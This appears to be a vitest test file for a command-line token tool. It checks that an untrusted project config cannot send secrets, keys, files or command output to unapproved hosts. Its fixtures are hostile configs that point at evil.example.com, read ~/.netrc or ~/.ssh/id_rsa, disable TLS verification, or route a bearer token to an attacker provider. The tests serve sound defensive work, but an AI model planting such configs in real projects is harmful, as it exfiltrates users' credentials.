// A project file that was found may use only what has been shown, each with the host it goes to.

import { createHash } from 'node:crypto'
import { chmodSync, existsSync, mkdirSync, rmSync, statSync, symlinkSync } from 'node:fs'
import { createServer } from 'node:net'
import { join } from 'node:path'
import { beforeEach, describe, expect, it } from 'vitest'
import { makeFolder, plantCanary, runProgram, writeFiles } from '../support/program.ts'

const CLIENT = `profiles:
  shop:
    provider: client-credentials
    token_endpoint: https://id.example.com/token
    client_id: shop
    client_secret: \${env:SHOP_SECRET}
    scopes:
      - orders.read
`
const env = { SHOP_SECRET: 'not-a-real-secret' }

let folder: string
beforeEach(() => {
  folder = makeFolder({ 'tokentool.yaml': CLIENT })
})

const dryRun = (args: readonly string[] = [], more: Record<string, string> = {}) =>
  runProgram(['get', '-n', ...args], { folder, env: { ...env, ...more } })
const trust = () => runProgram(['trust'], { folder, env })
const edit = (from: string, to: string) =>
  writeFiles(folder, { 'tokentool.yaml': CLIENT.replace(from, to) })

describe('a found file', () => {
  it('is refused what it has not been allowed, and told so with the host', async () => {
    const { code, stderr } = await dryRun()
    expect(code).toBe(2)
    expect(stderr).toContain('variable SHOP_SECRET → https://id.example.com')
    expect(stderr).toContain('tokentool trust')
  })

  it('may use it once it has been shown', async () => {
    const shown = await trust()
    expect(shown.stdout).toBe(
      'variable SHOP_SECRET → https://id.example.com\ntrusted tokentool.yaml\n',
    )
    expect((await dryRun()).code).toBe(0)
  })

  it('is remembered where nobody else can read or write', async () => {
    await trust()
    const store = join(folder, 'home/.local/state/tokentool/trusted.json')
    expect(statSync(store).mode & 0o777).toBe(0o600)
    expect(statSync(join(store, '..')).mode & 0o777).toBe(0o700)
  })

  it('is not trusted more because CI is set', async () => {
    expect((await dryRun([], { CI: 'true' })).code).toBe(2)
  })

  it('needs no trust when it is named, by flag or by variable', async () => {
    expect((await dryRun(['-c', 'tokentool.yaml'])).code).toBe(0)
    expect((await dryRun([], { TOKENTOOL_CONFIG: 'tokentool.yaml' })).code).toBe(0)
  })

  it('needs none for the sandbox', async () => {
    expect((await runProgram(['get', '--sandbox'], { folder, env })).code).toBe(0)
  })

  it('may send it to the address that was typed, once it has been shown at all', async () => {
    const typed = ['-s', 'token_endpoint=http://127.0.0.1:1/token']
    expect((await dryRun(typed)).code).toBe(2)
    await trust()
    expect((await dryRun(typed)).code).toBe(0)
  })
})

describe('after an edit', () => {
  beforeEach(async () => {
    await trust()
  })

  it('of a scope nothing is asked', async () => {
    edit('orders.read', 'orders.write')
    expect((await dryRun()).code).toBe(0)
  })

  it('of the host the difference is told, and only that', async () => {
    edit('id.example.com', 'evil.example.com')
    const { code, stderr } = await dryRun()
    expect(code).toBe(2)
    expect(stderr).toContain('variable SHOP_SECRET → https://evil.example.com')
    expect(stderr).not.toContain('https://id.example.com')
  })

  const GREEDY: readonly (readonly [what: string, from: string, to: string, shown: string])[] = [
    [
      'another variable',
      'client_id: shop',
      'client_id: ${env:HOME}',
      'variable HOME → https://id.example.com',
    ],
    [
      'a file',
      'client_id: shop',
      'client_id: ${file:~/.netrc}',
      'file ~/.netrc → https://id.example.com',
    ],
    [
      'a header',
      'client_id: shop',
      'client_id: shop\n    call:\n      headers:\n        X: ${env:AWS_KEY}',
      'variable AWS_KEY → https://id.example.com',
    ],
    [
      'a proxy',
      'client_id: shop',
      'client_id: shop\n    proxy: http://evil.example.com',
      'proxy http://evil.example.com → https://id.example.com',
    ],
    [
      'no verification',
      'client_id: shop',
      'client_id: shop\n    tls:\n      insecure: true',
      'tls.insecure → https://id.example.com',
    ],
    [
      'a key',
      'client_id: shop',
      'client_id: shop\n    client_auth: private_key_jwt\n    key_path: ~/.ssh/id_rsa',
      'key ~/.ssh/id_rsa → https://id.example.com',
    ],
  ]
  it.each(GREEDY)('%s is refused', async (_what, from, to, shown) => {
    edit(from, to)
    const { code, stderr } = await dryRun()
    expect(code).toBe(2)
    expect(stderr).toContain(shown)
  })

  it('a provider of the file is no way around it', async () => {
    writeFiles(folder, {
      'tokentool.yaml': `${CLIENT}  thief:
    provider: thief
providers:
  thief:
    fields:
      pin:
        type: text
        help: a pin
        default: \${env:THIEF_PIN}
    call:
      url: https://evil.example.com/
      headers:
        X-Key: \${env:SHOP_SECRET}
        X-Pin: \${pin}
`,
    })
    for (const args of [['thief'], ['--provider', 'thief'], ['shop', '--then', 'thief']]) {
      const { code, stderr } = await dryRun(args, { THIEF_PIN: '1234' })
      expect(code).toBe(2)
      expect(stderr).toContain('variable SHOP_SECRET → https://evil.example.com')
      expect(stderr).toContain('variable THIEF_PIN → https://evil.example.com')
    }
  })

  it.each([
    ['token_endpoint: https://evil.example.com/t', 'https://evil.example.com'],
    ['call:\n      url: https://evil.example.com/t', 'https://evil.example.com'],
  ])(
    "a profile that extends the user's own does not send its secrets elsewhere: %s",
    async (line, host) => {
      writeFiles(folder, {
        'home/.config/tokentool/tokentool.yaml': CLIENT.replace('shop:', 'own:'),
        'tokentool.yaml': `default_profile: thief\nprofiles:\n  thief:\n    extends: own\n    ${line}\n`,
      })
      const { code, stderr } = await dryRun()
      expect(code).toBe(2)
      expect(stderr).toContain(`variable SHOP_SECRET → ${host}`)
    },
  )

  it("the token of the user's own profile does not go to a new host", async () => {
    writeFiles(folder, {
      'home/.config/tokentool/tokentool.yaml': CLIENT.replace('shop:', 'own:'),
      'tokentool.yaml': `profiles:
  thief:
    provider: thief
    via: own
providers:
  thief:
    call:
      url: https://evil.example.com/
      headers:
        Authorization: Bearer \${via.access_token}
`,
    })
    const { code, stderr } = await dryRun(['thief'])
    expect(code).toBe(2)
    expect(stderr).toContain(
      'the token of your own own from https://id.example.com → https://evil.example.com',
    )
  })
})

/** A program of the project, that leaves a trace; what it prints is the secret. */
const SCRIPT = '#!/bin/sh\ntouch ran\nprintf %s "$(cat value)"\n'
const COMMAND = CLIENT.replace('${env:SHOP_SECRET}', '${command:./bin/secret --all}')

const ranIn = (place: string): boolean => existsSync(join(place, 'ran'))

const writeScript = (text: string, name = 'bin/secret'): void => {
  writeFiles(folder, { [name]: text, value: 'not-a-real-secret' })
  chmodSync(join(folder, name), 0o700)
}

describe('a command', () => {
  beforeEach(() => {
    writeFiles(folder, { 'tokentool.yaml': COMMAND })
    writeScript(SCRIPT)
  })

  it('is shown with its program, whose contents are trusted', async () => {
    const hash = createHash('sha256').update(SCRIPT).digest('hex')
    const { stdout } = await trust()
    expect(stdout).toBe(
      `command ./bin/secret --all (sha256:${hash.slice(0, 12)}…) → https://id.example.com\ntrusted tokentool.yaml\n`,
    )
    expect(ranIn(folder)).toBe(false)
    expect((await dryRun()).code).toBe(0)
  })

  it('is not run before that', async () => {
    const { code, stderr } = await dryRun()
    expect([code, ranIn(folder)]).toEqual([2, false])
    expect(stderr).toContain('command ./bin/secret --all (sha256:')
  })

  const CHANGES: readonly (readonly [what: string, change: () => void, told: string])[] = [
    [
      'the program has',
      () => writeScript(`${SCRIPT}#`),
      './bin/secret has changed since it was trusted',
    ],
    [
      'it leads elsewhere',
      () => {
        rmSync(join(folder, 'bin/secret'))
        symlinkSync('/bin/echo', join(folder, 'bin/secret'))
      },
      './bin/secret has changed since it was trusted',
    ],
    ['a word has', () => edited('--all', '--more'), 'command ./bin/secret --more'],
    ['the host has', () => edited('id.example', 'evil.example'), '→ https://evil.example.com'],
    [
      'the program is another',
      () => {
        writeScript(SCRIPT, 'bin/other')
        edited('./bin/secret', './bin/other')
      },
      'command ./bin/other',
    ],
  ]
  const edited = (from: string, to: string): void =>
    writeFiles(folder, { 'tokentool.yaml': COMMAND.replace(from, to) })
  it.each(CHANGES)('is asked about again when %s changed', async (_what, change, told) => {
    await trust()
    change()
    const { code, stderr } = await dryRun()
    expect([code, ranIn(folder)]).toEqual([2, false])
    expect(stderr).toContain(told)
    await trust()
    expect((await dryRun()).code).toBe(0)
  })

  it('is not asked about when the profile says something else', async () => {
    await trust()
    edited('orders.read', 'orders.write')
    expect((await dryRun()).code).toBe(0)
  })

  const WORDS: readonly (readonly [line: string, program: string])[] = [
    ['sh ./scripts/secret.sh', 'scripts/secret.sh'],
    ['sh scripts/secret.sh', 'scripts/secret.sh'],
    ["sh './my scripts/secret.sh'", 'my scripts/secret.sh'],
    ['sh my\\ scripts/secret.sh', 'my scripts/secret.sh'],
    ['env sh ./scripts/secret.sh', 'scripts/secret.sh'],
    ['sh -c ". ./scripts/secret.sh; true"', 'scripts/secret.sh'],
    ['env --chdir=. sh ./scripts/../scripts/secret.sh', 'scripts/secret.sh'],
    ['sh secret.sh', 'secret.sh'],
    ['sh ../shared/secret.sh', '../shared/secret.sh'],
    ['home-made x', 'tools/home-made'],
  ]
  it.each(WORDS)('%s: the file is trusted with its contents', async (line, program) => {
    // the project is a folder inside of it, so that there is one beside
    const inner = join(folder, 'inner')
    mkdirSync(join(inner, 'home'), { recursive: true })
    const run = (args: readonly string[]) =>
      runProgram(args, {
        folder: inner,
        env: { PATH: `${join(inner, 'tools')}:${process.env.PATH}` },
      })
    writeFiles(inner, {
      'tokentool.yaml': CLIENT.replace('${env:SHOP_SECRET}', JSON.stringify(`\${command:${line}}`)),
      value: 'not-a-real-secret',
    })
    const write = (text: string): void => {
      writeFiles(inner, { [program]: text })
      chmodSync(join(inner, program), 0o700)
    }
    write(SCRIPT)
    expect((await run(['trust'])).stdout).toContain('sha256:')
    expect((await run(['get', '-n'])).code).toBe(0)
    write(`${SCRIPT}# changed`)
    rmSync(join(inner, 'ran'), { force: true })
    const { code, stderr } = await run(['get', '-n'])
    expect([code, ranIn(inner)]).toEqual([2, false])
    expect(stderr).toContain('has changed since it was trusted')
  })

  it('of the system is trusted by its words', async () => {
    edited('./bin/secret --all', 'printf abcdefgh')
    expect((await trust()).stdout).toContain('command printf abcdefgh → https://id.example.com\n')
    expect((await dryRun()).code).toBe(0)
  })

  it('is not run to learn where it goes', async () => {
    const told = 'an address that is not known yet, ${command:./bin/secret --all}/token'
    const file = CLIENT.replace('https://id.example.com', '${command:./bin/secret --all}')
    writeFiles(folder, { 'tokentool.yaml': file })
    expect((await dryRun()).stderr).toContain(`variable SHOP_SECRET → ${told}`)
    expect((await trust()).stdout).toContain(`variable SHOP_SECRET → ${told}`)
    expect(ranIn(folder)).toBe(false)
    // another address that is not known is another one
    writeFiles(folder, { 'tokentool.yaml': file.replace('/token', '/other') })
    expect((await dryRun()).code).toBe(2)
  })

  it('that unlocks a key is not run to learn where it goes', async () => {
    writeFiles(folder, {
      'tokentool.yaml': `profiles:
  shop:
    provider: home-made
    key: \${command:./bin/secret --all}
providers:
  home-made:
    assertion: { algorithms: [RS256], header: {}, claims: { iss: x } }
    call: { url: "\${key.token_uri}", params: { a: "\${assertion}" } }
`,
    })
    const { code, stderr } = await dryRun(['shop'])
    expect(code).toBe(2)
    expect(stderr).toContain('command ./bin/secret --all (sha256:')
    expect(stderr).toContain('→ an address that is not known yet, ${key.token_uri}')
    await trust()
    await runProgram(['trust', 'list'], { folder, env })
    expect(ranIn(folder)).toBe(false)
  })
})

describe('what is used besides', () => {
  const USES: readonly (readonly [what: string, lines: string, shown: readonly string[]])[] = [
    [
      'a signer',
      `    client_auth: private_key_jwt
    key: { signer: [./bin/sign, "a b", "\${environment}"], public_key: ./k.pub }
`,
      ["command ./bin/sign 'a b' '${environment}'", 'key ./k.pub'],
    ],
    ['a public key', '    public_key: ./k.pub\n', ['key ./k.pub']],
    ['an assertion in a file', '    client_assertion: { file: ./jwt }\n', ['file ./jwt']],
    [
      'an assertion in a variable',
      '    client_assertion: { env: ID_TOKEN }\n',
      ['variable ID_TOKEN'],
    ],
    [
      'an assertion from a command',
      '    client_assertion: { command: "./bin/jwt x" }\n',
      ['command ./bin/jwt x'],
    ],
    [
      'certificates',
      '    tls: { ca: ./ca.pem, insecure: true }\n',
      ['tls.ca ./ca.pem', 'tls.insecure'],
    ],
  ]
  it.each(USES)('%s', async (_what, lines, shown) => {
    const text = CLIENT.replace('    client_secret: ${env:SHOP_SECRET}\n', lines)
    writeFiles(folder, { 'tokentool.yaml': text })
    const { stdout, stderr } = await trust()
    for (const one of shown) expect(stdout + stderr).toContain(`${one} → https://id.example.com`)
  })

  it('a path that is made of other fields is the path that it makes', async () => {
    const text = CLIENT.replace(
      'client_secret: ${env:SHOP_SECRET}',
      'client_auth: private_key_jwt\n    key_path: ./keys/${client_id}.pem',
    )
    writeFiles(folder, { 'tokentool.yaml': text })
    expect((await trust()).stdout).toContain('key ./keys/shop.pem → ')
    writeFiles(folder, { 'tokentool.yaml': text.replace('id: shop', 'id: ../../.ssh/id_rsa') })
    const { code, stderr } = await dryRun()
    expect(code).toBe(2)
    expect(stderr).toContain('key ./keys/../../.ssh/id_rsa.pem → ')
  })
})

describe('S10: in a project that is not trusted', () => {
  const COMMANDS: readonly (readonly string[])[] = [
    ['get', 'shop'],
    ['get', 'shop', '-n'],
    ['get', 'shop', '--curl'],
    ['get', 'shop', '--force-new'],
    ['get', 'shop', '--json'],
    ['mint', 'shop'],
    ['exec', 'shop', '--', 'true'],
    ['doctor', 'shop'],
    ['verify', '-p', 'shop', `${'e30'}.e30.c2ln`],
    ['explain', '-p', 'shop', 'invalid_grant'],
    ['key', 'match', '-p', 'shop'],
    ['profile', 'show', 'shop'],
    ['profile', 'list'],
    ['trust', 'list'],
    ['completion', 'zsh', '--', 'get', ''],
  ]
  const cases = COMMANDS.flatMap((args) => [
    [args.join(' '), args, {}] as const,
    ...(['get', 'mint', 'exec'].includes(args[0] ?? '')
      ? [[`CI=1 ${args.join(' ')}`, args, { CI: '1' }] as const]
      : []),
  ])

  it.each(cases)(
    '%s: nothing is run, nothing is used, nobody is called',
    async (_line, args, more) => {
      const secret = plantCanary()
      const server = await listen()
      writeScript(SCRIPT)
      writeFiles(folder, {
        value: secret,
        'secret.txt': secret,
        'ca.pem': 'no certificate',
        'tokentool.yaml': `profiles:
  shop:
    provider: home-made
    base_url: http://127.0.0.1:${server.port}
    authorization_server: http://127.0.0.1:${server.port}
    client_id: \${file:./secret.txt}
    key: \${command:./bin/secret --all}
    proxy: http://127.0.0.1:${server.port}
    tls: { ca: ./ca.pem, insecure: true, passphrase: "\${command:./bin/secret --all}" }
providers:
  home-made:
    jwks: "\${base_url}/\${command:./bin/secret --all}"
    assertion:
      algorithms: [HS256]
      header: {}
      claims: { iss: "\${client_id}", sub: "\${env:SHOP_CANARY}" }
    call:
      url: "\${base_url}/\${env:SHOP_CANARY}"
      params: { a: "\${assertion}", b: "\${command:./bin/secret --all}" }
`,
      })
      // the helper looks for the canary in everything that is printed and written
      const { code } = await runProgram(args, {
        folder,
        env: { SHOP_CANARY: secret, ...more },
        answersFailure: true,
      })
      server.close()
      expect([ranIn(folder), server.calls()]).toEqual([false, 0])
      const refused: Readonly<Record<string, number>> = {
        get: 2,
        mint: 2,
        exec: 125,
        verify: 2,
        key: 2,
      }
      expect(code).toBe(refused[args[0] ?? ''] ?? code)
    },
  )
})

/** A port that counts who comes. */
async function listen(): Promise<{ port: number; calls(): number; close(): void }> {
  let calls = 0
  const server = createServer((socket) => {
    calls++
    socket.destroy()
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  const address = server.address()
  const port = typeof address === 'object' && address !== null ? address.port : 0
  return { port, calls: () => calls, close: () => void server.close() }
}
